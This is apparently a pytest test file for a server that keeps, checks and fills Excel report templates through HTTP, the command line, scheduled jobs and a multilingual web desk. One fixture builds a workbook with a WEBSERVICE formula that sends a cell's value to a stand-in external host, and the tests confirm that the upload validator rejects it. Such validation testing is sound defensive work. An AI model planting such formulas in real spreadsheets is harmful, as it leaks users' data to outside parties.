"""The chamber's own workbooks: put, refused, filled from the desk, by HTTP and from the command line, on a schedule."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from flask import Flask
from openpyxl import Workbook

from server.auth import COMMAND
from server.errors import Problem
from server.services import presets, templates, workbooks
from server.services.workbook_options import read_asked
from tests.builders import registration
from tests.desk import served_apart, sign_in
from tests.exports.templates import name, save
from tests.server.test_workbook_jobs import settle

BOTH_DATABASES = True
URL = "/v1/projects/1/templates"


def report(heading: str = "Nom", **names: str) -> bytes:
    book = Workbook()
    sheet: Any = book.active
    sheet.title = "Rapport"
    sheet["A1"], sheet["A3"], sheet["B3"] = "CAM Oran", heading, "Prénom"
    name(book, "HIRFA_07_Liste_nominative", "Rapport!$A$3")
    name(book, "HIRFA_femmes", "Rapport!$B$1")
    for label, target in names.items():
        name(book, label, target)
    return save(book)


def hostile() -> bytes:
    book = Workbook()
    sheet: Any = book.active
    sheet.title = "Rapport"
    sheet["A1"] = '=WEBSERVICE("http://elsewhere.example/?"&B1)'
    name(book, "HIRFA_femmes", "Rapport!$B$1")
    return save(book)


def rows(data: bytes) -> list[tuple[Any, ...]]:
    return list(openpyxl.load_workbook(io.BytesIO(data))["Rapport"].iter_rows(values_only=True))


def put(client: Any, data: bytes, called: str = "Rapport mensuel") -> Any:
    return client.post(f"{URL}?name={called}", data=data, content_type="application/octet-stream")


def test_a_template_is_put_filled_replaced_and_deleted_by_http(phone: Any, as_role: Any) -> None:
    phone.push(phone.item(*registration()[:2]))
    officer = as_role("officer")
    kept = put(officer, report(HIRFA_I6="Rapport!$C$1"))
    assert kept.status_code == 201
    unknown = [one["near"] for one in kept.json["notes"] if one["code"] == "unknown_name"]
    assert len(unknown) == 1 and "HIRFA_I06" in unknown[0]
    with officer.get(f"/v1/projects/1/workbook.xlsx?template={kept.json['id']}") as answer:
        found = rows(answer.data)
    assert found[0][:2] == ("CAM Oran", 1)
    assert found[2][:2] == ("Nom", "Prénom")
    assert found[3][0] == "Benali"
    again = put(officer, report("nom_fr"))
    assert again.json["id"] == kept.json["id"]
    assert [one["name"] for one in officer.get(URL).json] == ["Rapport mensuel"]
    assert rows(officer.get(f"{URL}/{kept.json['id']}.xlsx").data)[2][0] == "nom_fr"
    assert officer.delete(f"{URL}/{kept.json['id']}").status_code == 204
    assert officer.get(f"/v1/projects/1/workbook.xlsx?template={kept.json['id']}").json["code"] == "400.8"


def test_a_refused_template_is_not_kept_and_says_why(as_role: Any) -> None:
    officer = as_role("officer")
    for data, code in ((hostile(), "active"), (b"a;b", "unreadable"), (save(Workbook()), "no_place"), (b"", "unreadable")):
        answer = put(officer, data)
        assert (answer.status_code, answer.json["code"]) == (422, "422.55")
        assert code in [one["code"] for one in answer.json["details"]["notes"]]
    assert officer.get(URL).json == []
    assert put(officer, report(), "").json["code"] == "400.8"
    assert put(as_role("viewer"), report()).status_code == 403
    names = openpyxl.load_workbook(io.BytesIO(officer.get(f"{URL}/names.xlsx").data))
    assert "HIRFA_cam_a_inscription" in [row[0] for row in names["Noms"].iter_rows(values_only=True)]


def test_saved_options_and_jobs_fill_a_template_and_say_when_it_is_gone(app: Flask, phone: Any) -> None:
    phone.push(phone.item(*registration()[:2]))
    looked = templates.keep_template(1, "Lundi", report(), COMMAND)
    asked = read_asked({"template": ["Lundi"]}, COMMAND, 1)
    assert asked.plain["template"] == looked.id
    presets.save_preset(1, "Semaine", "week", asked, COMMAND)
    made = presets.run_presets(1)[0]
    assert rows(made.file.read_bytes())[3][0] == "Benali"
    job_id = workbooks.start_job(1, COMMAND, asked)
    assert settle(app, job_id, "done", "failed") == "done"
    assert rows(workbooks.job_path(1, job_id).read_bytes())[0][1] == 1
    templates.delete_template(1, looked.id, COMMAND)
    with pytest.raises(Problem):
        presets.run_presets(1, everything=True)


def test_the_command_line_checks_keeps_and_fills_templates(app: Flask, phone: Any, tmp_path: Path) -> None:
    phone.push(phone.item(*registration()[:2]))
    run = app.test_cli_runner()
    (tmp_path / "t.xlsx").write_bytes(report())
    (tmp_path / "bad.xlsx").write_bytes(hostile())
    kept = run.invoke(args=["check-template", str(tmp_path / "t.xlsx"), "--keep", "Rapport", "--json"])
    assert kept.exit_code == 0, kept.output
    assert json.loads(kept.output)["places"][0]["columns"] == ["nom_fr", "prenom_fr"]
    refused = run.invoke(args=["check-template", str(tmp_path / "bad.xlsx")])
    assert refused.exit_code == 1
    assert "active" in refused.output
    for chosen in ("Rapport", str(tmp_path / "t.xlsx")):
        out = tmp_path / "out.xlsx"
        done = run.invoke(args=["export", "--out", str(out), "--template", chosen])
        assert done.exit_code == 0, done.output
        assert rows(out.read_bytes())[3][0] == "Benali"
    assert run.invoke(args=["export", "--out", str(tmp_path / "x.xlsx"), "--template", str(tmp_path / "bad.xlsx")]).exit_code == 1
    assert not (tmp_path / "x.xlsx").exists()
    assert run.invoke(args=["template-names", "--out", str(tmp_path / "n.xlsx")]).exit_code == 0


@pytest.mark.parametrize("language", ["fr", "ar", "en"])
def test_the_desk_says_what_was_understood(app: Flask, language: str) -> None:
    desk = sign_in(served_apart(app), "officer")
    desk.post("/language", language=language)
    page = desk.post("/templates", status=303, file=(io.BytesIO(report(HIRFA_I6="Rapport!$C$1")), "rapport.xlsx"))
    assert page
    found = templates.list_templates(1)[0]
    assert found.name == "rapport"
    page = desk.get(f"/templates/{found.id}")
    assert "HIRFA_07_Liste_nominative" in page and "HIRFA_I06" in page
    assert "rapport" in desk.get("/templates")
    assert f'value="{found.id}" selected' in desk.get(f"/workbook?template={found.id}")
    refused = desk.post("/templates", status=422, file=(io.BytesIO(hostile()), "x.xlsx"))
    assert "WEBSERVICE" in refused
    assert len(templates.list_templates(1)) == 1
    desk.post("/templates", status=422)
    template_id = found.id
    desk.post(f"/templates/{template_id}/delete")
    assert template_id not in desk.get("/templates")
